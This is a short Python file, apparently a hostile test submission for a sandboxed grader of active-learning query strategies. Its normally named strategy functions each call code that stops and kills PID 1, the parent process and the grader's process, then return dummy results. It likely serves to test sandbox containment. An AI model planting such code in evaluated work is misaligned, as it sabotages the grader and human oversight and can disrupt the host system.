"""Stops and kills its parents and the grader, whose number it knows."""

import os
import signal


def attack(probabilities):
    for number in (1, os.getppid(), int("@PID@")):
        for what in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
            try:
                os.kill(number, what)
                os.killpg(number, what)
            except OSError:
                pass
    return [0] * len(probabilities)


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
